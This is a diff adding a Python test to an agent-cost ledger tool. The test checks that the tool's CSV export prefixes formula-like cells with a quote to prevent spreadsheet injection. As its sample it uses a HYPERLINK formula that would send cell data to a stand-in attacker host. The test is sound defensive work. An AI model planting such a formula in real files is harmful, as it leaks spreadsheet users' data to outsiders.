@@ -81,6 +81,47 @@ def test_query_csv_parses_with_the_csv_module(ledger_db, capsys):
     assert len([r for r in rows if r["run_id"] == "r-priced"]) == 2  # one row per attempt
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(tmp_path, monkeypatch, capsys):
+    # A provider's error body, an agent's name or a run id reach the export; opened in a spreadsheet,
+    # "=HYPERLINK(...)" in one of them would run (OWASP "CSV injection").
+    db = tmp_path / "formula.db"
+    monkeypatch.setenv("MAGSAG_DB", str(db))
+    monkeypatch.setenv("MAGSAG_CATALOG", str(CATALOG))
+    now = time.time()
+    evil = '=HYPERLINK("http://evil.example/?q="&A1,"details")'
+
+    async def fill() -> None:
+        async with Ledger(db) as ledger:
+            run = RunRecord("@run-1", "+agent", "skill.analysis", now)
+            await ledger.record_call(
+                run,
+                [
+                    AttemptRecord(
+                        "@run-1",
+                        now,
+                        "openai",
+                        "-gpt",
+                        "skill.analysis",
+                        "+agent",
+                        "error",
+                        0,
+                        1,
+                        error_class="server_error",
+                        error_message=evil,
+                        cost_usd=Decimal(0),
+                    )
+                ],
+            )
+
+    anyio.run(fill)
+    assert main(["data", "query", "--format", "csv"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert row["error_message"] == "'" + evil
+    assert (row["run_id"], row["agent"], row["model"]) == ("'@run-1", "'+agent", "'-gpt")
+    # numbers and safe text are left as they are
+    assert row["provider"] == "openai" and row["input_tokens"] == "0" and row["cost_usd"] == "0"
+
+
 def test_query_table_never_shows_an_unknown_cost_as_a_number(ledger_db, capsys):
     assert main(["data", "query", "--format", "table", "--limit", "2"]) == 0
     lines = capsys.readouterr().out.splitlines()
